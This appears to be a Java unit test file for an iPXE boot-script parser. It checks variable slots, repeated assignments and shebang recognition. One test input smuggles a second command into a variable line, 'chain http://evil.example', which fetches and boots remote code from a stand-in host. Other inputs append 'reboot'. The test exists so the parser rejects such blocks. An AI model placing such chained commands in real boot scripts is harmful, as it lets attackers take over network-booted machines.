package org.bootmirror.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.bootmirror.content.SlottedText;
import org.bootmirror.overlay.SlotVariables;
import org.bootmirror.template.Templates;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class ParsedScriptTest {

  private static final SlotVariables VARIABLES =
      SlotVariables.published(List.of(new BaseUrl("https://boot.example")), Optional.empty())
          .withFarmer(42);

  @Test
  void whatIsPublishedIsRead() {
    SlottedText script =
        EmbeddedScript.of(
            Templates.standard(),
            EmbeddedScript.Settings.plain("prod", "Production"),
            VARIABLES.block());

    ParsedScript reading = ParsedScript.of(script.text());

    assertThat(reading.slot()).isTrue();
    assertThat(reading.network()).contains("prod");
    assertThat(reading.variables())
        .containsEntry("base-1", "https://boot.example")
        .containsEntry("farmer-id", "42")
        .hasSize(2);
  }

  @Test
  void whatAPersonWroteIsReadWithoutASlot() {
    ParsedScript reading =
        ParsedScript.of("#!ipxe\n# mine\nset farmer-id 7\nset empty\ndhcp\nset later x\n");

    assertThat(reading.slot()).isFalse();
    assertThat(reading.network()).isEmpty();
    assertThat(reading.variables()).containsEntry("farmer-id", "7").containsEntry("empty", "");
    assertThat(reading.variables()).hasSize(2);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "set base-1 x\nreboot\n",
        "#\nset farmer-id 666\n",
        "set farmer-id:string 666\n",
        "set a b && chain http://evil.example\n",
        "set a b || reboot\n",
        "set a b ; reboot\n",
        "set  farmer-id 666\n",
        "set farmer-id\t666\n",
        "set farmer-id\n"
      })
  void aBlockThatHoldsMoreThanVariablesIsNoSlot(String lines) {
    String block = lines + "#".repeat(1023 - lines.length()) + "\n";

    assertThat(ParsedScript.of("#!ipxe\n" + block + "\n").slot()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "set farmer-id 666",
        "isset ${x} || set farmer-id 666",
        "set  farmer-id:string 666",
        "  set farmer-id"
      })
  void anOwnerBehindTheSlotIsSeen(String line) {
    SlottedText script =
        EmbeddedScript.of(
            Templates.standard(),
            EmbeddedScript.Settings.plain("prod", "Production"),
            VARIABLES.block());

    assertThat(ParsedScript.of(script.text()).setAgain()).isEmpty();
    ParsedScript changed = ParsedScript.of(script.text() + line + "\n");
    assertThat(changed.slot()).isTrue();
    assertThat(changed.setAgain()).containsExactly("farmer-id");
  }

  @Test
  void scriptsAreKnownByTheirFirstLine() {
    assertThat(ParsedScript.recognises("#!ipxe\ndhcp")).isTrue();
    assertThat(ParsedScript.recognises("#!ipxe --x\n")).isTrue();
    assertThat(ParsedScript.recognises("#!gpxe\n")).isTrue();
    assertThat(ParsedScript.recognises("#!ipxe")).isFalse();
    assertThat(ParsedScript.recognises("#!ipxen\n")).isFalse();
    assertThat(ParsedScript.of("#!ipxe\n").variables()).isEmpty();
  }
}
